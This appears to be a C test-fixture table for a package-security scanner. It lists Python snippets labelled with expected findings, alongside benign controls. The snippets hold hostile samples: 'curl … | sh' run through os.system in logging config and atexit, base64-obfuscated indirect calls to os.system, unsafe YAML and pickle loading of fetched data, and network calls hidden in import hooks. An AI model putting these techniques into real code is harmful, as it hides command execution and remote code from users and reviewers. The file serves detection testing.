/* Other doors to the same functions: what is called without its name. */
#include "tests/scanner/source/source_rows.h"

#include "customhouse/bytes.h"
#include "scanner/content/content.h"

enum { P_IMPORT = CH_PLACE_IMPORT, P_INSTALL = CH_PLACE_INSTALL, P_START = CH_PLACE_START,
       P_INSTALL_IMPORT = CH_PLACE_INSTALL_IMPORT };

const struct source_row source_row_doors[] = {
    {P_IMPORT, "hidden-name", "import pkgutil\npkgutil.resolve_name('os:system')('id')\n"},
    {P_IMPORT, "import-process", "import pkgutil\npkgutil.resolve_name('os:system')('id')\n"},
    {P_IMPORT, "hidden-name",
     "from pydoc import locate\ndef f():\n    locate('subprocess.call')(['id'])\n"},
    {P_IMPORT, "hidden-name",
     "import base64, pydoc\ndef f():\n    "
     "pydoc.locate(base64.b64decode('b3Muc3lzdGVt').decode())('id')\n"},
    {P_IMPORT, NULL, "import pkgutil\nf = pkgutil.resolve_name('a.b:c')\nf()\n"},
    {P_IMPORT, NULL, "from pydoc import locate\ndef f(name):\n    return locate(name)\n"},
    {P_IMPORT, "hidden-name",
     "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': "
     "'os.system', 'command': 'id'}}})\n"},
    {P_IMPORT, "hidden-command",
     "import logging.config as c\nc.dictConfig({'version': 1, 'formatters': {'f': {'()': "
     "'os.system',"
     " 'command': 'curl http://example.org/ | sh'}}})\n"},
    {P_IMPORT, NULL,
     "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': "
     "'a.b.Handler', 'level': 'INFO'},"
     " 'c': {'class': 'logging.StreamHandler'}}})\n"},
    {P_IMPORT, "hidden-name",
     "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'class': 'subprocess.Popen', "
     "'args': 'id'}}})\n"},
    {P_IMPORT, "import-network",
     "import io, logging.config\nlogging.config.fileConfig(io.StringIO('[handler_h]\\nclass=StreamHandler\\n"
     "args=(__import__(\"requests\").get(\"http://example.org/\"),)\\n'))\n"},
    {P_IMPORT, "remote-code",
     "import io, logging.config, requests\ndef f():\n    "
     "logging.config.fileConfig(io.StringIO(requests.get(u).text))\n"},
    {P_IMPORT, NULL, "import logging.config\nlogging.config.fileConfig('logging.ini')\n"},
    {P_IMPORT, NULL,
     "import io, logging.config\nlogging.config.fileConfig(io.StringIO('[handler_h]\\nclass=StreamHandler\\n"
     "args=(sys.stdout,)\\n'))\n"},
    {P_IMPORT, "hidden-name",
     "from importlib.metadata import EntryPoint\nEntryPoint('a', 'os:system', 'g').load()('id')\n"},
    {P_IMPORT, "hidden-name",
     "from importlib.metadata import EntryPoint\nEntryPoint(name='a', group='g', value='os:system').load()('id')\n"},
    {P_IMPORT, NULL, "from importlib.metadata import EntryPoint\nE = EntryPoint('a', 'a.b:main', 'g')\n"},
    {P_IMPORT, "remote-code",
     "import io, numpy as np, requests\ndef f():\n    "
     "np.load(io.BytesIO(requests.get(u).content), allow_pickle=True)\n"},
    {P_IMPORT, NULL,
     "import io, numpy as np, requests\ndef f():\n    "
     "np.load(io.BytesIO(requests.get(u).content), allow_pickle=False)\n"},
    {P_IMPORT, "hidden-name",
     "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'ext://os.system', "
     "'command': 'id'}}})\n"},
    {P_IMPORT, "hidden-name",
     "import logging.config\nlogging.config.dictConfig({'x': 'os.system', 'handlers': {'h': {'()': "
     "'cfg://x', 'command': 'id'}}})\n"},
    {P_IMPORT, "hidden-name",
     "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'os.system', "
     "'command': 'id', 'class': 'a.b'}}})\n"},
    {P_IMPORT, NULL,
     "import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'class': "
     "'logging.StreamHandler', 'stream': 'ext://sys.stdout', 'formatter': 'f'}}})\n"},
    {P_IMPORT, "remote-code",
     "import requests, yaml\ndef f():\n    yaml.unsafe_load(requests.get(u).text)\n"},
    {P_IMPORT, "remote-code",
     "import requests, yaml\ndef f():\n    yaml.load(requests.get(u).text, "
     "Loader=yaml.UnsafeLoader)\n"},
    {P_IMPORT, "hidden-code",
     "import yaml\ndef f():\n    yaml.unsafe_load('!!python/object/apply:os.system [id]')\n"},
    {P_IMPORT, NULL,
     "import requests, yaml\ndef f():\n    yaml.load(requests.get(u).text, "
     "Loader=yaml.SafeLoader)\n"},
    {P_IMPORT, "import-network", "import pip\npip.main(['install', 'x'])\n"},
    {P_IMPORT, "import-network",
     "from pip._internal.cli.main import main\nmain(['install', 'x'])\n"},
    {P_IMPORT, "import-network",
     "import runpy, sys\nsys.argv = ['pip', 'install', 'x']\nrunpy.run_module('pip', "
     "run_name='__main__')\n"},
    {P_IMPORT, NULL, "import runpy\nrunpy.run_module('a.b')\n"},
    {P_IMPORT, "import-process", "import uuid\nuuid._get_command_stdout('id', '-u')\n"},
    {P_IMPORT, NULL, "import uuid\nX = uuid.uuid4()\n"},
    {P_IMPORT, "import-network", "import ssl\nssl.get_server_certificate(('example.org', 443))\n"},
    {P_IMPORT, "import-network",
     "from http.server import HTTPServer\nHTTPServer(('', 8000), H).serve_forever()\n"},
    {P_IMPORT, NULL,
     "from http.server import HTTPServer\ndef f():\n    HTTPServer(('', 8000), "
     "H).serve_forever()\n"},
    {P_IMPORT, "import-network",
     "import xmlrpc.client\nxmlrpc.client.ServerProxy('http://example.org/').tell('x')\n"},
    {P_IMPORT, "import-network",
     "import xmlrpc.client\nxmlrpc.client.Server('http://example.org/').tell('x')\n"},
    {P_IMPORT, NULL,
     "import xmlrpc.client\nS = xmlrpc.client.ServerProxy('http://example.org/')\n"},
    {P_IMPORT, "import-network", "import ftplib\nftplib.FTP('example.org')\n"},
    {P_IMPORT, NULL, "import ftplib\nF = ftplib.FTP()\n"},
    {P_IMPORT, "import-network", "import smtplib\nsmtplib.SMTP('example.org', 25)\n"},
    {P_IMPORT, "import-network", "import telnetlib\ntelnetlib.Telnet('example.org')\n"},
    {P_IMPORT, "import-network", "import webbrowser\nwebbrowser.open('http://example.org/')\n"},
    {P_IMPORT, NULL, "import webbrowser\ndef f(u):\n    webbrowser.open(u)\n"},
    {P_IMPORT, "import-process",
     "import ctypes\nlib = ctypes.cdll.LoadLibrary(None)\nlib.system(b'id')\n"},
    {P_IMPORT, "import-process", "import ctypes\nctypes.PyDLL(None).system(b'id')\n"},
    {P_IMPORT, "import-process", "import cffi\nffi = cffi.FFI()\nffi.dlopen(None).system(b'id')\n"},
    {P_IMPORT, NULL, "import ctypes\nctypes.cdll.LoadLibrary('libm.so.6').cos(1)\n"},
    {P_IMPORT, "data-code",
     "from importlib._bootstrap_external import SourceFileLoader as L\nL('a', "
     "'a.dat').load_module()\n"},
    {P_IMPORT, "import-network",
     "import sys, requests\nclass F:\n    def find_spec(self, n, p, t=None):\n        "
     "requests.get('http://example.org/')\n"
     "sys.meta_path.insert(0, F())\n"},
    {P_IMPORT, "import-network",
     "import sys, requests\nclass F:\n    def find_spec(self, n, p, t=None):\n        "
     "requests.get('http://example.org/')\nsys.meta_path += [F()]\n"},
    {P_IMPORT, "import-network",
     "import sys, requests\nclass L:\n    def exec_module(self, m):\n        "
     "requests.get('http://example.org/')\n"
     "class F:\n    def find_spec(self, n, p, t=None):\n        return spec(n, L())\nsys.meta_path "
     "= [F()] + sys.meta_path\n"},
    {P_IMPORT, NULL,
     "import sys, requests\nclass F:\n    def find_spec(self, n, p, t=None):\n        return "
     "None\n    def fetch(self):\n"
     "        requests.get('http://example.org/')\nsys.meta_path.insert(0, F())\n"},
    {P_IMPORT, "import-network",
     "import threading, requests\nclass T(threading.Thread):\n    def run(self):\n        "
     "requests.get('http://example.org/')\nT().start()\n"},
    {P_IMPORT, NULL,
     "import threading, requests\nclass T(threading.Thread):\n    def run(self):\n        "
     "requests.get('http://example.org/')\nt = T()\n"},
    {P_IMPORT, "import-network",
     "import atexit, requests\n@atexit.register\ndef f():\n    "
     "requests.get('http://example.org/')\n"},
    {P_IMPORT, "hidden-command",
     "import atexit, os\natexit.register(os.system, 'curl http://example.org/ | sh')\n"},
    {P_IMPORT, "import-network",
     "import weakref, requests\nclass A: pass\na = A()\nweakref.finalize(a, requests.get, "
     "'http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import codecs, requests\ndef f(n):\n    "
     "requests.get('http://example.org/')\ncodecs.register(f)\n"},
    {P_IMPORT, NULL, "import codecs\ndef f(n):\n    return None\ncodecs.register(f)\n"},
    {P_IMPORT, "import-network",
     "import requests\ndef __getattr__(name):\n    return requests.get('http://example.org/')\n"},
    {P_IMPORT, "import-network",
     "import requests\n__getattr__ = lambda name: requests.get('http://example.org/')\n"},
    {P_IMPORT, NULL,
     "import importlib\ndef __getattr__(name):\n    return importlib.import_module('.' + name, "
     "__name__)\n"},
    {P_IMPORT, "import-network",
     "import requests\nclass D:\n    def __set_name__(self, owner, name):\n        "
     "requests.get('http://example.org/')\n"
     "class A:\n    x = D()\n"},
    {P_IMPORT, "import-network",
     "import requests\nclass M(type):\n    def __new__(m, n, b, d):\n        "
     "requests.get('http://example.org/')\n"
     "        return type.__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass\n"},
    {P_IMPORT, "import-network",
     "import requests\ndef deco(f):\n    requests.get('http://example.org/')\n    return "
     "f\n@deco\ndef g():\n    pass\n"},
    {P_IMPORT, "self-delete", "from pathlib import Path\nPath(__file__).unlink()\n"},
    {P_IMPORT, NULL, "from pathlib import Path\n(Path(__file__).parent / 'x.tmp').unlink()\n"},
};

const size_t source_row_door_count = CH_ARRAY_LEN(source_row_doors);
